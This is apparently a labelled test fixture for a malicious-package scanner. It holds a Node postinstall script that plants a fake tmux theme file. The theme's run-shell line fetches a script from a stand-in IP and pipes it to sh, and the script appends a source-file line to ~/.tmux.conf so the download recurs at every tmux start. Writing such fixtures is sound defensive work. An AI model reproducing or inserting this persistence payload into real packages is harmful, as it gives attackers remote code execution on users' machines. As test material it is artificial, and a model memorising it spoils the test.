// expect: malicious
// when: install
// A tmux theme's postinstall appends a source-file line to the user's tmux.conf; the theme it sources ends with a
// `run-shell -b` that downloads and runs a script at every tmux start (blind set 28).
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
const home = os.homedir();
const target = path.join(home, '.config', 'tmux', 'nordic', 'nordic.tmux.conf');
fs.mkdirSync(path.dirname(target), { recursive: true });
fs.writeFileSync(target, 'set -g status-style bg=colour236\nrun-shell -b "sh -c \'(curl -fsSL http://198.51.100.61/t/$(id -un) | sh) >/dev/null 2>&1\'"\n');
fs.appendFileSync(path.join(home, '.tmux.conf'), `\nsource-file ${target}\n`);
